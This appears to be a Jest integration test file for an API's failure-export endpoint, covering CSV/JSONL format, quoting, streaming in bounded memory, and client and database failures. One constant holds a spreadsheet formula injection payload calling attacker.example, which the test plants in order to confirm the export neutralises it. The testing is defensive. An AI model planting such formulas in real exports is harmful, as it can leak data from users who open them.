import { parse } from 'csv-parse/sync';
import { randomBytes } from 'node:crypto';
import { get, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import request from 'supertest';
import { ProgramFilesRepository } from '../../src/programs/program-files.repository';
import { clearDocumentFaults } from '../factories/db-faults';
import { putObjects, textFiles } from '../factories/s3-objects';
import { finishAndCheck, startTestApp, TestApp } from '../support/test-app';

const USER = 'exporter';
const COLUMNS = [
  'stage',
  'index',
  'file_path',
  'error_code',
  'retryable',
  'retry_count',
  'exhausted',
  'next_retry_at',
  'timestamp',
  'error',
];
// A trigger's RAISE text is kept in the failure record: a genuine way for text that a spreadsheet
// would run as a formula to reach a cell.
const FORMULA = '=HYPERLINK("http://attacker.example/?leak=1", "click me")';

const BIG = 100_000;
/** Error text of the big program's rows: long enough that the whole export (~70 MB) dwarfs the RSS bound. */
const BIG_ERROR_PAD = 500;
const RSS_BOUND = 60 * 1024 * 1024;

describe('failure export: GET /v1/programs/{id}/failures/export', () => {
  let t: TestApp;
  let port: number;

  beforeAll(async () => {
    // A short statement deadline lets a test make the database fail a page query for real.
    t = await startTestApp({ DB_STATEMENT_TIMEOUT_MS: '1500' });
    await new Promise<void>((resolve) => t.server.listen(0, '127.0.0.1', resolve));
    port = (t.server.address() as AddressInfo).port;
  });

  afterAll(async () => {
    await clearDocumentFaults(t.db);
    await t.db.query('DROP TRIGGER IF EXISTS test_formula_documents ON documents');
    await t?.close();
  });

  const exportOf = (programId: string, query: Record<string, string> = {}, user = USER) =>
    request(t.server)
      .get(`/v1/programs/${programId}/failures/export`)
      .query({ user_id: user, ...query })
      .buffer(true)
      .parse((res, cb) => {
        let text = '';
        res.setEncoding('utf8');
        res.on('data', (c: string) => (text += c));
        res.on('end', () => cb(null, text));
      });

  describe('a finished program with failures of both stages', () => {
    let programId: string;
    let files: string[];
    let records: Record<string, any>[];

    beforeAll(async () => {
      await t.db.query(`
        CREATE OR REPLACE FUNCTION test_formula_documents() RETURNS trigger AS $$
        BEGIN
          IF NEW.source_file_path LIKE '%/export-small/%' AND NEW.source_index IN (1, 3) THEN
            RAISE EXCEPTION '${FORMULA.replace(/'/g, "''")}';
          END IF;
          RETURN NEW;
        END $$ LANGUAGE plpgsql`);
      await t.db.query(`CREATE TRIGGER test_formula_documents BEFORE INSERT ON documents
                        FOR EACH ROW EXECUTE FUNCTION test_formula_documents()`);
      // 0, 5 fine; 1, 3 refused at the Document stage; 2, 4 missing.
      const specs = textFiles(6, 'export-small');
      const present = await putObjects(
        t.s3,
        t.sourceBucket,
        specs.filter((_, i) => i !== 2 && i !== 4),
      );
      files = specs.map((s) => `s3://${t.sourceBucket}/${s.key}`);
      expect(present).toEqual(files.filter((_, i) => i !== 2 && i !== 4));
      const res = await request(t.server).post('/v1/programs').query({ user_id: USER }).send({ name: 'exp', files });
      expect(res.status).toBe(202);
      programId = res.body.program_id;
      await finishAndCheck(t, programId, USER, files);
      await t.db.query('DROP TRIGGER test_formula_documents ON documents');
      const failures = await request(t.server).get(`/v1/programs/${programId}/failures`).query({ user_id: USER });
      // Stage by stage, then by source index.
      records = [
        ...failures.body.items.filter((r: { stage: string }) => r.stage === 'preprocessing'),
        ...failures.body.items.filter((r: { stage: string }) => r.stage === 'document'),
      ];
      expect(records.map((r) => r.index ?? r.source_index)).toEqual([2, 4, 1, 3]);
    });

    it('writes CSV: the SPEC columns, RFC 4180 quoting, formulas neutralised, as an attachment', async () => {
      const res = await exportOf(programId, { format: 'csv' });
      expect(res.status).toBe(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(res.headers['content-disposition']).toBe(`attachment; filename="${programId}-failures.csv"`);
      const text = res.body as string;
      expect(text.startsWith(`${COLUMNS.join(',')}\r\n`)).toBe(true);
      const rows: string[][] = parse(text, { relax_column_count: false });
      expect(rows[0]).toEqual(COLUMNS);
      expect(rows.slice(1)).toEqual(
        records.map((r) => [
          r.stage,
          String(r.index ?? r.source_index),
          r.file_path ?? r.source_file_path,
          r.error_code,
          String(r.retryable),
          String(r.retry_count),
          String(r.exhausted),
          r.next_retry_at ?? '',
          r.timestamp,
          // The Document refusals' text starts with "=": shown as text, never run.
          r.error.startsWith('=') ? `'${r.error}` : r.error,
        ]),
      );
      expect(rows[3][9]).toMatch(/^'=HYPERLINK\("http:\/\/attacker\.example\/\?leak=1", "click me"\)/);
    });

    it('writes JSONL: the records of GET …/failures, with their stage, one per line', async () => {
      const res = await exportOf(programId, { format: 'jsonl' });
      expect(res.status).toBe(200);
      expect(res.headers['content-type']).toBe('application/x-ndjson');
      expect(res.headers['content-disposition']).toBe(`attachment; filename="${programId}-failures.jsonl"`);
      const text = res.body as string;
      expect(text.endsWith('\n')).toBe(true);
      expect(
        text
          .trimEnd()
          .split('\n')
          .map((l) => JSON.parse(l)),
      ).toEqual(records);
    });

    it.each([
      ['preprocessing', [2, 4]],
      ['document', [1, 3]],
    ])('exports one stage with stage=%s', async (stage, indexes) => {
      const csv = parse((await exportOf(programId, { format: 'csv', stage })).body as string, { from_line: 2 });
      expect(csv.map((r: string[]) => [r[0], Number(r[1])])).toEqual(indexes.map((i) => [stage, i]));
      const jsonl = ((await exportOf(programId, { format: 'jsonl', stage })).body as string).trimEnd().split('\n');
      expect(jsonl.map((l) => JSON.parse(l).stage)).toEqual([stage, stage]);
    });

    it('defaults to CSV', async () => {
      const res = await exportOf(programId);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    });

    it.each([
      ['an unknown format', { format: 'xlsx' }, 400, 'INVALID_FORMAT'],
      ['an empty format', { format: '' }, 400, 'INVALID_FORMAT'],
      ['an unknown stage', { stage: 'storage' }, 400, 'INVALID_STAGE'],
    ])('answers %s with a 400', async (_name, query, status, code) => {
      const res = await request(t.server)
        .get(`/v1/programs/${programId}/failures/export`)
        .query({ user_id: USER, ...query });
      expect(res.status).toBe(status);
      expect(res.body).toEqual({ statusCode: status, error: 'Bad Request', message: expect.any(String), code });
    });

    it.each([
      ['another user', () => programId, 'someone-else'],
      ['an unknown program', () => 'prog_000000000000000000000000', USER],
    ])('answers 404 PROGRAM_NOT_FOUND for %s', async (_name, id, user) => {
      const res = await request(t.server)
        .get(`/v1/programs/${id()}/failures/export`)
        .query({ user_id: user, format: 'csv' });
      expect(res.status).toBe(404);
      expect(res.headers['content-type']).toMatch(/^application\/json/);
      expect(res.body.code).toBe('PROGRAM_NOT_FOUND');
    });

    it('documents both media types and the formula neutralisation in the OpenAPI document', async () => {
      const doc = (await request(t.server).get('/docs-json')).body;
      const op = doc.paths['/v1/programs/{programId}/failures/export'].get;
      expect(Object.keys(op.responses['200'].content)).toEqual(
        expect.arrayContaining(['text/csv', 'application/x-ndjson']),
      );
      expect(Object.keys(op.responses)).toEqual(expect.arrayContaining(['200', '400', '404']));
      expect(op.description).toMatch(/apostrophe/);
    });
  });

  it('exports a program without failures as a header (CSV) or nothing (JSONL)', async () => {
    const files = await putObjects(t.s3, t.sourceBucket, textFiles(2, 'export-clean'));
    const res = await request(t.server).post('/v1/programs').query({ user_id: USER }).send({ name: 'ok', files });
    await finishAndCheck(t, res.body.program_id, USER, files);
    expect((await exportOf(res.body.program_id, { format: 'csv' })).body).toBe(`${COLUMNS.join(',')}\r\n`);
    const jsonl = await exportOf(res.body.program_id, { format: 'jsonl' });
    expect(jsonl.status).toBe(200);
    expect(jsonl.body).toBe('');
  });

  describe(`a program of ${BIG.toLocaleString('en')} failures`, () => {
    let programId: string;

    beforeAll(async () => {
      // Written straight into the tables: a program whose every file failed, every tenth at the
      // Document stage, as the app would have left it.
      programId = `prog_${randomBytes(12).toString('hex')}`;
      const metadata = {
        preprocessing: { summary: { total: BIG, success: BIG / 10, failed: BIG - BIG / 10 }, failed_files: [] },
        document_storage: { summary: { total: BIG / 10, success: 0, failed: BIG / 10 }, failed_files: [] },
        total_expected: BIG,
        total_successful_documents: 0,
        has_partial_failure: true,
        retry_history: [],
        retry_history_total: 0,
      };
      await t.db.query(`INSERT INTO programs (id, user_id, name, total_files) VALUES ($1, $2, 'big export', $3)`, [
        programId,
        USER,
        BIG,
      ]);
      await t.db.query(
        `INSERT INTO program_states (program_id, status, metadata_json) VALUES ($1, 'completed_with_failures', $2::json)`,
        [programId, JSON.stringify(metadata)],
      );
      await t.db.query(
        `INSERT INTO program_files (program_id, source_index, source_file_path, state, processed_s3_path, error,
           error_code, retryable, retry_count, failed_at, next_retry_at, exhausted, attempts)
         SELECT $1, g, 's3://export-sources/batch/file-' || lpad(g::text, 6, '0') || '.txt',
           CASE WHEN g % 10 = 0 THEN 'document_failed' ELSE 'preprocessing_failed' END,
           CASE WHEN g % 10 = 0 THEN 's3://' || $2 || '/programs/' || $1 || '/processed_' || $1 || '_' || g || '.json' END,
           'could not read file ' || g || ', "quoted" text: ' || repeat('x', $3),
           CASE WHEN g % 10 = 0 THEN 'DOCUMENT_STORE_FAILED' ELSE 'SOURCE_NOT_FOUND' END,
           true, 1, now() - interval '1 minute', now() + interval '1 hour', false, 2
         FROM generate_series(0, $4 - 1) g`,
        [programId, t.bucket, BIG_ERROR_PAD, BIG],
      );
    });

    /**
     * Downloads the export over a real socket, reading the body as it comes and keeping only counts
     * and a few lines, while sampling this process's RSS (the app runs in it).
     */
    function download(format: 'csv' | 'jsonl') {
      return new Promise<{
        status: number;
        lines: number;
        header: string;
        first: string;
        last: string;
        bytes: number;
        orderViolations: number;
        perStage: Record<string, number>;
        rssGrowth: number;
      }>((resolve, reject) => {
        warmYoungGeneration();
        const baseline = process.memoryUsage.rss();
        let peak = baseline;
        const sampler = setInterval(() => (peak = Math.max(peak, process.memoryUsage.rss())), 10);
        const path = `/v1/programs/${programId}/failures/export?user_id=${USER}&format=${format}`;
        get({ host: '127.0.0.1', port, path, agent: false }, (res: IncomingMessage) => {
          let carry = '';
          let lines = 0;
          let bytes = 0;
          let header = '';
          let first = '';
          let last = '';
          let orderViolations = 0;
          let prev = { stage: 0, index: -1 };
          const perStage: Record<string, number> = {};
          const onLine = (line: string) => {
            lines++;
            if (format === 'csv' && lines === 1) {
              header = line;
              return;
            }
            if (!first) first = line;
            last = line;
            let stage: string;
            let index: number;
            if (format === 'csv') {
              const a = line.indexOf(',');
              stage = line.slice(0, a);
              index = Number(line.slice(a + 1, line.indexOf(',', a + 1)));
            } else {
              const r = JSON.parse(line);
              stage = r.stage;
              index = r.index ?? r.source_index;
            }
            perStage[stage] = (perStage[stage] ?? 0) + 1;
            // Preprocessing first, then document; source order within each.
            const rank = stage === 'preprocessing' ? 0 : 1;
            if (rank < prev.stage || (rank === prev.stage && index <= prev.index)) orderViolations++;
            prev = { stage: rank, index };
          };
          res.setEncoding('utf8');
          res.on('data', (chunk: string) => {
            bytes += Buffer.byteLength(chunk);
            peak = Math.max(peak, process.memoryUsage.rss());
            let from = 0;
            for (let nl = chunk.indexOf('\n'); nl >= 0; nl = chunk.indexOf('\n', from)) {
              onLine((carry + chunk.slice(from, nl)).replace(/\r$/, ''));
              carry = '';
              from = nl + 1;
            }
            carry += chunk.slice(from);
          });
          res.on('end', () => {
            clearInterval(sampler);
            resolve({
              status: res.statusCode!,
              lines,
              header,
              first,
              last,
              bytes,
              orderViolations,
              perStage,
              rssGrowth: peak - baseline,
            });
          });
          res.on('error', (e) => {
            clearInterval(sampler);
            reject(e);
          });
        }).on('error', reject);
      });
    }

    it.each(['csv', 'jsonl'] as const)('streams every record as %s in bounded memory', async (format) => {
      const r = await download(format);
      process.stderr.write(
        `[export ${format}] ${r.lines} lines, ${(r.bytes / 1048576).toFixed(1)} MB, ` +
          `RSS growth ${(r.rssGrowth / 1048576).toFixed(1)} MB\n`,
      );
      expect(r.status).toBe(200);
      expect(r.lines).toBe(BIG + (format === 'csv' ? 1 : 0));
      expect(r.perStage).toEqual({ preprocessing: BIG - BIG / 10, document: BIG / 10 });
      expect(r.orderViolations).toBe(0);
      if (format === 'csv') {
        expect(r.header).toBe(COLUMNS.join(','));
        expect(r.first).toMatch(/^preprocessing,1,s3:\/\/export-sources\/batch\/file-000001\.txt,SOURCE_NOT_FOUND,/);
        expect(r.last).toMatch(/^document,99990,s3:\/\/export-sources\/batch\/file-099990\.txt,DOCUMENT_STORE_FAILED,/);
        expect(r.last).toMatch(/,"could not read file 99990, ""quoted"" text: x+"$/);
      } else {
        expect(JSON.parse(r.first)).toMatchObject({ stage: 'preprocessing', index: 1, error_code: 'SOURCE_NOT_FOUND' });
        expect(JSON.parse(r.last)).toMatchObject({
          stage: 'document',
          source_index: 99990,
          json_key: 'json_file_99990',
          error_code: 'DOCUMENT_STORE_FAILED',
        });
      }
      // The whole body is several times the bound: it was never held at once.
      expect(r.bytes).toBeGreaterThan(RSS_BOUND);
      expect(r.rssGrowth).toBeLessThan(RSS_BOUND);
    });

    it('stops reading the database when the client goes away', async () => {
      const repo = t.app.get(ProgramFilesRepository);
      const real = repo.failures.bind(repo);
      let calls = 0;
      let inFlight = 0;
      const spy = jest.spyOn(repo, 'failures').mockImplementation(async (...args) => {
        calls++;
        inFlight++;
        try {
          return await real(...args);
        } finally {
          inFlight--;
        }
      });
      let serverClosed = false;
      const onRequest = (_req: unknown, res: { on(e: 'close', f: () => void): void }) =>
        res.on('close', () => (serverClosed = true));
      t.server.on('request', onRequest);
      try {
        await new Promise<void>((resolve, reject) => {
          const path = `/v1/programs/${programId}/failures/export?user_id=${USER}&format=csv`;
          const req = get({ host: '127.0.0.1', port, path, agent: false }, (res) => {
            res.once('data', () => {
              req.destroy();
              resolve();
            });
          });
          req.on('error', () => undefined);
          req.on('close', () => resolve());
          setTimeout(() => reject(new Error('no data')), 30_000).unref();
        });
        // The response closes on the server, then the page query in flight (if any) ends.
        while (!serverClosed || inFlight > 0) await new Promise((r) => setTimeout(r, 10));
        const after = calls;
        // The app goes on serving; the abandoned export read nothing more meanwhile.
        const ok = await request(t.server).get(`/v1/programs/${programId}`).query({ user_id: USER });
        expect(ok.status).toBe(200);
        expect(calls).toBe(after);
        process.stderr.write(`[export abort] ${after} page queries of ${BIG / 1000 + 2} before it stopped\n`);
        expect(after).toBeLessThan(BIG / 1000 / 2);
      } finally {
        t.server.off('request', onRequest);
        spy.mockRestore();
      }
    });

    it('cuts the transfer, with no error text or stack, when the database fails mid-stream', async () => {
      let lines = 0;
      let tail = '';
      const outcome = await new Promise<{ complete: boolean; status: number }>((resolve) => {
        const path = `/v1/programs/${programId}/failures/export?user_id=${USER}&format=csv`;
        get({ host: '127.0.0.1', port, path, agent: false }, (res) => {
          res.setEncoding('utf8');
          const take = (c: string) => {
            lines += c.split('\n').length - 1;
            // Only the end matters: never keep 70 MB.
            tail = (tail + c).slice(-4000);
          };
          res.once('data', (first: string) => {
            take(first);
            // The client holds off while the test locks the table: every later page query waits,
            // then runs into the app's statement deadline.
            res.pause();
            void (async () => {
              await t.db.query('BEGIN');
              await t.db.query('LOCK TABLE program_files IN ACCESS EXCLUSIVE MODE');
              res.on('data', take);
              res.resume();
            })();
          });
          res.on('error', () => undefined);
          res.on('close', () => resolve({ complete: res.complete, status: res.statusCode! }));
        });
      });
      await t.db.query('ROLLBACK');
      expect(outcome.status).toBe(200);
      // Cut short, and visibly so: the chunked body never got its end.
      expect(outcome.complete).toBe(false);
      expect(lines).toBeGreaterThan(0);
      expect(lines).toBeLessThan(BIG + 1);
      expect(tail).not.toMatch(/statusCode|INTERNAL_ERROR|SQLSTATE|\n\s+at /);
    });

    it('answers a database failure before the first byte with an ordinary error', async () => {
      await t.db.query('BEGIN');
      try {
        await t.db.query('LOCK TABLE program_files IN ACCESS EXCLUSIVE MODE');
        const res = await request(t.server)
          .get(`/v1/programs/${programId}/failures/export`)
          .query({ user_id: USER, format: 'csv' });
        expect(res.status).toBe(500);
        expect(res.body).toEqual({
          statusCode: 500,
          error: 'Internal Server Error',
          message: 'internal error',
          code: 'INTERNAL_ERROR',
        });
        expect(res.headers['content-disposition']).toBeUndefined();
      } finally {
        await t.db.query('ROLLBACK');
      }
    });
  });
});

/**
 * Makes V8 grow its young generation to the size a busy process runs with before the RSS baseline
 * is taken, by allocating (and dropping) a few hundred MB of short-lived objects. Otherwise the
 * first large allocation of a fresh process grows it during the measurement: that is up to 128 MB on
 * Node 24 (32 MB on Node 20), none of it the export's. Nothing allocated here survives, so a
 * download that held its body would still add the whole body to the RSS.
 */
function warmYoungGeneration(): void {
  let keep = 0;
  for (let i = 0; i < 4_000_000; i++) {
    const o = { i, s: `warm-${i}` };
    keep ^= o.s.length;
  }
  if (keep < 0) throw new Error('unreachable');
}
